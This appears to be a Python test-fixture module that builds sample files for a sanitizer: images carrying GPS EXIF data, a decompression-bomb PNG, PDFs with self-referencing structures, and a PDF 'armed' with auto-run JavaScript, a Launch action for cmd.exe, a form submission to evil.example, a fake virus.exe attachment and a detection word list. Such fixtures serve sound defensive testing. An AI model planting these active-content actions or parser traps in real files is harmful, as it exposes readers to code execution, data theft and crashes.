"""Files as people and attackers send them, made here so that the repository has no binaries."""

import io
import random
import struct
import zlib
from collections.abc import Callable

import pikepdf
import pillow_heif
from PIL import Image, ImageDraw

pillow_heif.register_heif_opener()

GPS_TEXT = "Calle Secreta 12"  # stands for whatever EXIF says about a home


def image_bytes(
    size: tuple[int, int] = (640, 480),
    *,
    mode: str = "RGB",
    file_format: str = "JPEG",
    **options: object,
) -> bytes:
    out = io.BytesIO()
    gradient = Image.linear_gradient("L").resize(size)
    if mode == "I;16":
        gradient.convert("I").point(lambda v: v * 257).convert(mode).save(out, file_format)
    else:
        gradient.convert("RGB").convert(mode).save(out, file_format, **options)
    return out.getvalue()


def noise(file_format: str, **options: object) -> bytes:
    """A picture that doesn't compress, so its pixels fill the file to the end."""
    out = io.BytesIO()
    pixels = random.Random(7).randbytes(320 * 240 * 3)
    Image.frombytes("RGB", (320, 240), pixels).save(out, file_format, **options)
    return out.getvalue()


def conversation(size: tuple[int, int] = (1170, 20000)) -> bytes:
    """A screenshot of a whole chat: lines of letters 40 pixels high, dark on white."""
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    for top in range(100, size[1] - 100, 100):
        for left in range(80, size[0] - 80, 24):
            draw.rectangle((left, top, left + 8, top + 40), "black")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def photo_with_gps(*, orientation: int = 6, file_format: str = "JPEG") -> bytes:
    """640 × 480 with a red left half, a position and, in a JPEG, a comment."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = GPS_TEXT
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (19.0, 25.0, 0.0), "W", (99.0, 8.0, 0.0)
    image = Image.new("RGB", (640, 480), "blue")
    image.paste("red", (0, 0, 320, 480))
    out = io.BytesIO()
    comment = {"comment": GPS_TEXT.encode()} if file_format == "JPEG" else {}
    image.save(out, file_format, exif=exif.tobytes(), quality=95, **comment)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A few hundred bytes whose header promises width × height pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + chunk(b"IEND", b"")
    )


def animated_png() -> bytes:
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def pdf_bytes(
    change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 2, **save: object
) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def arm(pdf: pikepdf.Pdf) -> None:
    """Everything a hostile PDF does on opening, on a click, on printing; and its author."""
    d, name, a = pikepdf.Dictionary, pikepdf.Name, pikepdf.Array

    def script(text: str) -> pikepdf.Object:
        return pdf.make_indirect(d(S=name.JavaScript, JS=pikepdf.String(text)))

    pdf.Root.OpenAction = script("app.alert('open')")
    pdf.Root.AA = d(WC=script("app.alert('close')"))
    pdf.attachments["virus.exe"] = b"MZ attached program"
    pdf.Root.Names.JavaScript = d(Names=a([pikepdf.String("x"), script("app.alert('names')")]))
    field = d(FT=name.Tx, T=pikepdf.String("total"), AA=d(K=script("app.alert('key')")))
    pdf.Root.AcroForm = d(Fields=a([pdf.make_indirect(field)]), XFA=pdf.make_stream(b"<xdp/>"))
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["Autora Oculta"]
    pdf.docinfo["/Author"] = "Autora Oculta"
    page = pdf.pages[0]
    page.obj.AA = d(O=script("app.alert('page')"))
    clicks = [
        script("app.alert('click')"),
        d(S=name.Launch, F=pikepdf.String("cmd.exe")),
        d(S=name.SubmitForm, F=pikepdf.String("https://evil.example/form")),
        d(S=name.ImportData, F=pikepdf.String("data.fdf")),
        d(S=name.URI, URI=pikepdf.String("https://evil.example/login")),
        d(S=name.GoTo, D=a([0, name.Fit]), Next=script("app.alert('next')")),
    ]
    links = [
        d(Type=name.Annot, Subtype=name.Link, Rect=a([0, 0, 9, 9]), A=action) for action in clicks
    ]
    media = d(
        Type=name.Annot,
        Subtype=name.RichMedia,
        Rect=a([0, 0, 9, 9]),
        RichMediaContent=d(Assets=pdf.make_stream(b"FWS flash movie")),
    )
    page.Annots = a([*(pdf.make_indirect(link) for link in links), pdf.make_indirect(media)])


ACTIVE_WORDS = [
    *(b"app.alert", b"JavaScript", b"OpenAction", b"/AA", b"Launch", b"cmd.exe", b"SubmitForm"),
    *(b"ImportData", b"evil.example", b"attached program", b"virus.exe", b"XFA", b"<xdp/>"),
    *(b"RichMedia", b"flash movie", b"Autora Oculta", b"Metadata"),
]


def unpacked(pdf: bytes) -> bytes:
    """All objects readable, so that a search for a word finds it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(
            out,
            qdf=True,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            fix_metadata_version=False,
        )
    return out.getvalue()


def pdf_with_circular_xref() -> bytes:
    """One page; the cross-reference table names itself as its predecessor."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for body in (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (len(offsets), body)
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (start, start)
    return bytes(out)


def pdf_with_circular_pages() -> bytes:
    """The page tree is its own child."""

    def loop(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    return pdf_bytes(loop)
